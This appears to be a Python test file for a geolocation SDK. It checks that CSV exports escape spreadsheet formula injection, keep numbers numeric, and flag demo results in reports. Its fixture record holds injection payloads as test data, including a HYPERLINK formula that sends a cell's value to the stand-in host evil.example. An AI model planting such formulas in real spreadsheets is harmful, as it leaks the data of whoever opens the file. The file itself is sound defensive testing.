"""Outputs that cannot mislead: spreadsheet-safe CSV cells, numbers kept as numbers, and demo results
marked as meaningless wherever they are shown."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from click.testing import CliRunner

from clue2geo_sdk import Bundle
from clue2geo_sdk.cli import main
from clue2geo_sdk.evidence.report.render import render_report
from clue2geo_sdk.runs.formats import CSV_FIELDS, write_csv

RECORD = {
    "path": "@cmd.jpg",
    "status": "ok",
    "lat": -33.8688,
    "lon": -70.6,
    "country": "Chile",
    "country_code": "CL",
    "admin1": "Santiago Metropolitan",
    "city": "Santiago",
    "landmark": "+SUM(A1:A9)",
    "model_country": '=HYPERLINK("http://evil.example/?"&A1,"Chile")',
    "model_city": "-2+3",
    "confidence": 0.61,
    "spread_km": 12.5,
    "source": "rag5",
    "fallback": False,
    "invalid_candidates": 0,
    "cues_status": "ok",
    "image_sha256": "ab" * 32,
    "bundle": "demo",
    "bundle_digest": "cd" * 32,
    "options_digest": "ef" * 32,
    "sdk_version": "0.1.0",
    "demo": True,
    "seconds": 1.5,
    "candidates": [],
    "cues": [],
}


def _check_csv(path: Path) -> None:
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert len(rows) == 1
    row = rows[0]
    assert row["model_country"].startswith("'=HYPERLINK") and row["landmark"] == "'+SUM(A1:A9)"
    assert row["model_city"] == "'-2+3" and row["path"] == "'@cmd.jpg"
    assert row["lat"] == "-33.8688" and row["lon"] == "-70.6"  # numbers stay numbers
    assert float(row["lat"]) == -33.8688
    for field in ("country_code", "admin1", "model_country", "model_city", "cues_status", "options_digest"):
        assert field in CSV_FIELDS
    assert (row["country_code"], row["bundle_digest"], row["demo"]) == ("CL", "cd" * 32, "True")


def test_csv_cells_are_neutralised(tmp_path: Path) -> None:
    write_csv(tmp_path / "direct.csv", [RECORD])
    _check_csv(tmp_path / "direct.csv")


def test_export_to_csv_neutralises_cells(tmp_path: Path) -> None:
    src = tmp_path / "r.jsonl"
    src.write_text(json.dumps(RECORD) + "\n", encoding="utf-8")
    res = CliRunner().invoke(main, ["export", str(src), "--to", str(tmp_path / "x.csv")])
    assert res.exit_code == 0, res.output
    _check_csv(tmp_path / "x.csv")


def test_report_shows_a_banner_only_for_demo_records(demo_bundle: Path) -> None:
    db = Bundle.open(demo_bundle, verify=False).file("metadata", "db")
    real = {**RECORD, "demo": False}
    assert 'id="demo-warning"' in render_report([real, RECORD], db)
    assert "demo-warning" not in render_report([real], db)
